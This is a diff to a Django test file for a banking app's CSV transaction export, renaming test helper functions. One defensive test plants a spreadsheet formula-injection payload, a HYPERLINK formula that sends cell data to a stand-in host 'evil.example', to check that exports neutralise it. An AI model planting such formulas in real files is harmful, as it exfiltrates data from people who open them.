@@ -13,7 +13,7 @@ from django.test.utils import CaptureQueriesContext
 
 from accounts.models import User
 from banking.models import Account, Item, Transaction
-from banking.tests.rows import account_at, moved, moved_all, movement
+from banking.tests.factories import build_transaction, make_account, make_transaction, make_transactions
 from banking.transactions import csv_export
 from compliance.isolation import current_tenant
 
@@ -25,7 +25,7 @@ MOST_LINES = 5000
 
 @pytest.fixture
 def account(item: Item) -> Account:
-    return account_at(item)
+    return make_account(item)
 
 
 def written(user: User) -> list[list[str]]:
@@ -34,7 +34,7 @@ def written(user: User) -> list[list[str]]:
 
 
 def test_it_says_what_each_row_is(alice: User, account: Account) -> None:
-    row = moved(
+    row = make_transaction(
         account,
         "-4.33",
         merchant_name="Starbucks",
@@ -60,7 +60,7 @@ def test_it_says_what_each_row_is(alice: User, account: Account) -> None:
 
 
 def test_it_gives_a_pending_row_no_day_of_posting(alice: User, account: Account) -> None:
-    moved(account, "-4.33", pending=True)
+    make_transaction(account, "-4.33", pending=True)
     head, body = written(alice)
     facts = dict(zip(head, body, strict=True))
     assert (facts["Posted"], facts["Status"]) == ("", "pending")
@@ -83,7 +83,7 @@ def test_it_gives_a_pending_row_no_day_of_posting(alice: User, account: Account)
 def test_it_writes_an_amount_with_all_its_digits_and_no_others(
     alice: User, account: Account, amount: str, text: str
 ) -> None:
-    moved(account, amount)
+    make_transaction(account, amount)
     head, body = written(alice)
     assert body[head.index("Amount")] == text
 
@@ -91,8 +91,8 @@ def test_it_writes_an_amount_with_all_its_digits_and_no_others(
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
 def test_it_lets_no_text_run_in_a_spreadsheet(alice: User, item: Item, start: str) -> None:
     attack = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
-    account = account_at(item, name=attack, mask="", currency=f"{start}1+1")
-    moved(account, "-1", merchant_name=attack, category=attack, note=attack)
+    account = make_account(item, name=attack, mask="", currency=f"{start}1+1")
+    make_transaction(account, "-1", merchant_name=attack, category=attack, note=attack)
     head, body = written(alice)
     facts = dict(zip(head, body, strict=True))
     # Category names are put into words first, which changes their case.
@@ -108,7 +108,7 @@ def test_it_lets_no_text_run_in_a_spreadsheet(alice: User, item: Item, start: st
 
 def test_it_keeps_a_text_that_looks_like_several_cells_in_one(alice: User, account: Account) -> None:
     note = 'a,"b"\r\n=c;d\te'
-    moved(account, "-1", note=note)
+    make_transaction(account, "-1", note=note)
     head, *bodies = written(alice)
     assert [dict(zip(head, body, strict=True))["Note"] for body in bodies] == [note]
 
@@ -120,8 +120,8 @@ def test_it_writes_only_the_head_when_there_is_nothing(alice: User) -> None:
 def test_it_writes_every_row_once_and_newest_first_over_many_chunks(alice: User, account: Account) -> None:
     first = date(2026, 1, 1)
     # Seven days for 2,001 rows, so that every chunk ends in the middle of a day.
-    rows = [movement(account, f"-{n + 1}", id=uuid4(), day=first + timedelta(days=n % 7)) for n in range(2001)]
-    moved_all(account, rows)
+    rows = [build_transaction(account, f"-{n + 1}", id=uuid4(), day=first + timedelta(days=n % 7)) for n in range(2001)]
+    make_transactions(account, rows)
     _, *bodies = written(alice)
     expected = sorted(rows, key=lambda row: (row.day, row.id.int), reverse=True)
     assert [UUID(body[-1]) for body in bodies] == [row.id for row in expected]
@@ -132,7 +132,7 @@ def test_it_holds_no_more_than_a_chunk_in_memory(
     alice: User, account: Account, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(csv_export, "CHUNK_SIZE", 50)
-    moved_all(account, [movement(account, "-1") for _ in range(500)])
+    make_transactions(account, [build_transaction(account, "-1") for _ in range(500)])
     rows = Transaction.objects.for_user(alice).select_related("account")
     gc.collect()
     most = 0
@@ -144,7 +144,7 @@ def test_it_holds_no_more_than_a_chunk_in_memory(
 
 def test_it_asks_once_for_each_chunk(alice: User, account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(csv_export, "CHUNK_SIZE", 10)
-    moved_all(account, [movement(account, "-1") for _ in range(30)])
+    make_transactions(account, [build_transaction(account, "-1") for _ in range(30)])
     with CaptureQueriesContext(connection) as asked:
         written(alice)
     assert sum(query["sql"].startswith("SELECT") for query in asked) == 3
@@ -152,8 +152,8 @@ def test_it_asks_once_for_each_chunk(alice: User, account: Account, monkeypatch:
 
 @pytest.mark.django_db(transaction=True)
 def test_it_leaves_neither_a_transaction_nor_a_tenant_open_between_lines(alice: User, account: Account) -> None:
-    moved(account, "-1", removed_at=datetime(2026, 11, 20, tzinfo=UTC))
-    moved_all(account, [movement(account, "-1") for _ in range(3)])
+    make_transaction(account, "-1", removed_at=datetime(2026, 11, 20, tzinfo=UTC))
+    make_transactions(account, [build_transaction(account, "-1") for _ in range(3)])
     rows = Transaction.objects.for_user(alice).select_related("account")
     seen = [(connection.in_atomic_block, current_tenant()) for _ in csv_export.csv_lines(owner_id=alice.pk, rows=rows)]
     assert seen
@@ -161,5 +161,5 @@ def test_it_leaves_neither_a_transaction_nor_a_tenant_open_between_lines(alice: 
 
 
 def test_it_writes_no_row_of_somebody_else(mallory: User, account: Account) -> None:
-    moved(account, "-1")
+    make_transaction(account, "-1")
     assert written(mallory) == [list(csv_export.COLUMNS)]
